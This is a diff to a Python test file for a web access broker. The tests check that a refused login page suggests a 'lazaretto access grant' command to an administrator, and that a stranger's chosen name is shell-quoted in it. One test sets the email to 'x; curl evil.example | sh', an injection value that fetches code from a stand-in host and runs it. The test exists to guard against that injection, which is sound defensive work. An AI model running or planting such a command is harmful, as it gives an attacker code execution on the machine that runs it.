@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import html
 import time
 from collections.abc import Callable, Iterator
 from typing import Any
@@ -97,7 +98,16 @@ def test_a_stranger(broker: Broker, served: Served, identity: IdentityProvider) 
     refused = log_in(browser)
     assert refused.status_code == 401
     assert "has no role here" in refused.text
+    assert "lazaretto access grant ana@example.com viewer" in refused.text
     assert broker.browser_sessions() == []
+
+
+@pytest.mark.stores("sqlite")
+def test_a_name_is_quoted_for_the_shell(broker: Broker, served: Served, identity: IdentityProvider) -> None:
+    """An administrator copies the line, and the stranger chose the name."""
+    identity.claims["email"] = "x; curl evil.example | sh"
+    refused = html.unescape(log_in(browser_of(served)).text)
+    assert "lazaretto access grant 'x; curl evil.example | sh' viewer" in refused
 
 
 def lie(**changes: object) -> Callable[[Claims], Claims]:
